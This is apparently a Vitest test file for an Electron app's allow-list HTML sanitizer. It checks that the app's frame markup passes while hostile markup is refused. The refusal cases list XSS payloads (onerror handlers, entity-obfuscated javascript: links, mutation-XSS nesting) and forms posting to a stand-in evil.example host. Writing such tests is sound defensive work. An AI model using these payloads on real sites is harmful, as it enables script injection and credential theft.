import { describe, expect, it } from 'vitest';
import { sanitizeFrameMarkup } from '../../../electron/core/desktop/frame-markup';
import { sendableMarkup } from '../../../electron/core/desktop/first-screen';

/**
 * A frame as Chromium serialises the app's Today: a lucide icon, a data: picture, a hidden status,
 * the search box, a join link.
 */
const FRAME =
  '<div class="layout"><header class="top"><svg xmlns="http://www.w3.org/2000/svg" width="24" height="24" viewBox="0 0 24 24" fill="none" ' +
  'stroke="currentColor" stroke-width="2" stroke-linecap="round" stroke-linejoin="round" class="lucide lucide-rotate-cw" aria-hidden="true">' +
  '<path d="M21 12a9 9 0 1 1-9-9c2.52 0 4.93 1 6.74 2.74L21 8"></path><path d="M21 3v5h-5"></path></svg>Learning&nbsp;Desktop</header>' +
  '<ul aria-label="Continue"><li data-frame-testid="today-continue"><a href="#/course/1">Statistics &amp; Data</a>' +
  '<img src="data:image/png;base64,iVBORw0KGgo=" alt="" loading="lazy"><span class="skeleton" style="width: 70%;"></span>' +
  '<span role="status" style="visibility: hidden;">Synced 2 min ago</span><time datetime="2026-11-28">28 Nov</time></li></ul>' +
  '<form role="search" class="search"><label for="q" class="sr">Search</label><input placeholder="Search" type="search" value=""></form>' +
  '<a href="https://meet.example.com/evt_live_qa" target="_blank" rel="noopener noreferrer">Join</a><span style="--cover-hue: 134;"></span>' +
  '<div style="transform: translateY(12px);"><button type="button" class="button" disabled="">Open</button></div></div>';

describe('first frame markup: parsed against an allow-list, not matched by a pattern', () => {
  it('keeps the app’s own frame, written out exactly as Chromium wrote it', () => {
    expect(sanitizeFrameMarkup(FRAME)).toBe(FRAME);
    expect(sendableMarkup(FRAME)).toBe(FRAME);
  });

  it('refuses what the old pattern let through: a slash for a space, a reference in a scheme, a form', () => {
    for (const html of [
      '<img/src=x/onerror=alert(1)>',
      '<img src="x"/onerror="alert(1)">',
      '<a href="jav&#x61;script:alert(1)">x</a>',
      '<a href="jav&#97;script:alert(1)">x</a>',
      '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
      '<a href="java&#9;script:alert(1)">x</a>',
      '<a href="java\tscript:alert(1)">x</a>',
      '<form action="https://evil.example/steal"><button>Sign in again</button></form>',
      '<button formaction="https://evil.example/">x</button>',
      '<input name="password">',
    ])
      expect(sanitizeFrameMarkup(html), html).toBeNull();
  });

  it('keeps the plan on Today: its study days (checkboxes in a fieldset) and its goal (a number, a select)', () => {
    const plan =
      '<fieldset class="plan-days"><legend>Study days</legend><input type="checkbox" checked="">' +
      '<input type="number" inputmode="numeric" min="1" value="120"><select aria-label="Unit">' +
      '<option value="minutes">minutes</option></select></fieldset>';
    expect(sanitizeFrameMarkup(plan)).toBe(plan);
    expect(sanitizeFrameMarkup('<input type="file">')).toBeNull();
  });

  it('refuses every element and attribute off the list, and malformed or unbalanced markup', () => {
    for (const html of [
      '<div><script>alert(1)</script></div>',
      '<svg><script>alert(1)</script></svg>',
      '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
      '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="></use></svg>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
      '<style>body{display:none}</style>',
      '<textarea><img src=x onerror=alert(1)></textarea>',
      '<div onclick="alert(1)">x</div>',
      '<div ONCLICK="alert(1)">x</div>',
      '<div style="background: url(https://evil.example/x.png)">x</div>',
      '<div style="background:u\\72l(https://evil.example)">x</div>',
      '<img src="https://evil.example/track.png">',
      '<a href="//evil.example/">x</a>',
      '<a href="https://student:secret@evil.example/">x</a>',
      '<a href="http://evil.example/">x</a>',
      '<a href="/x" target="_top">x</a>',
      '<input type="password">',
      '<input type="search" name="q">',
      '<form method="post"><input type="search"></form>',
      '<div class=unquoted>x</div>',
      "<div class='single'>x</div>",
      '<div><!-- a comment --></div>',
      '<!doctype html><div></div>',
      '<div><span></div></span>',
      '<div>',
      '</div>',
      'a < b',
      'Tom & Jerry',
      '&unknown;',
      '<div class="a" class="b"></div>',
      '<div>'.repeat(65) + '</div>'.repeat(65),
    ])
      expect(sanitizeFrameMarkup(html), html).toBeNull();
  });

  it('what it writes is text where the input was text: references decoded and escaped again', () => {
    expect(
      sanitizeFrameMarkup('<p title="&quot;&gt;&lt;img&gt;">a &lt;b&gt; &#60;c&#x3e;</p>'),
    ).toBe('<p title="&quot;>&lt;img>">a &lt;b&gt; &lt;c&gt;</p>');
  });
});
